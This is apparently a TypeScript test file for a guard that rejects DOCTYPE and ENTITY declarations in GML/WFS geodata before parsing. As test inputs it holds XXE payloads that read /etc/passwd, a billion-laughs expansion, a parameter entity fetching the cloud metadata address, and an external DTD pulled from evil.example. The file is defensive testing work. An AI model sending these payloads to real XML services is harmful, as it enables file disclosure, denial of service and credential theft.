import assert from 'node:assert/strict';
import { checkXmlSafe } from './xml-guard';

const refused = (xml: string, line: number, column: number) =>
  assert.throws(
    () => checkXmlSafe(xml),
    (e: any) => e.code === 'xml_doctype' && e.params.line === line && e.params.column === column,
  );

describe('geodata sources: XML guard before parsing', () => {
  it('passes GML with comments and CDATA that mention declarations', () => {
    const gml = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment naming <!DOCTYPE x> and <!ENTITY y "z"> is harmless -->
<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:gml="http://www.opengis.net/gml/3.2">
  <wfs:member><app:road xmlns:app="urn:app"><app:note><![CDATA[<!DOCTYPE not-a-declaration>]]></app:note>
    <gml:Point srsName="EPSG:25832"><gml:pos>500000 5700000</gml:pos></gml:Point></app:road></wfs:member>
</wfs:FeatureCollection>`;
    assert.doesNotThrow(() => checkXmlSafe(gml));
  });

  it('refuses an external entity reading a server file (XXE), naming line and column', () => {
    refused('<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>', 2, 1);
  });

  it('refuses nested entities (billion laughs) and parameter entities', () => {
    const lol = ['<?xml version="1.0"?>', '<!DOCTYPE lolz [', ' <!ENTITY lol "lol">'];
    for (let i = 1; i < 10; i++) lol.push(` <!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    lol.push(']>', '<lolz>&lol9;</lolz>');
    refused(lol.join('\n'), 2, 1);
    refused('<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://169.254.169.254/x"> %remote;]><d/>', 1, 1);
  });

  it('refuses declarations in any letter case, after comments, and stray ENTITY declarations', () => {
    refused('<!-- first --><!doctype x SYSTEM "http://evil.example/x.dtd"><x/>', 1, 15);
    refused('<a>\n  <!ENTITY e "x">\n</a>', 2, 3);
  });

  it('leaves other markup, unterminated comments and sections to the parser, which reports them', () => {
    assert.doesNotThrow(() => checkXmlSafe('<a><!x></a>'));
    assert.doesNotThrow(() => checkXmlSafe('<a><!-- nie geschlossen <!DOCTYPE x>'));
    assert.doesNotThrow(() => checkXmlSafe('<a><![CDATA[ nie geschlossen <!DOCTYPE x>'));
    // A comment right after the end of an earlier one.
    assert.doesNotThrow(() => checkXmlSafe('<a>x--><!-- <!DOCTYPE y> --></a>'));
    refused('<a>x--><!-- eins --><!DOCTYPE y></a>', 1, 21);
    refused('<a><![CDATA[ ]]><!ENTITY e "x"></a>', 1, 17);
  });
});
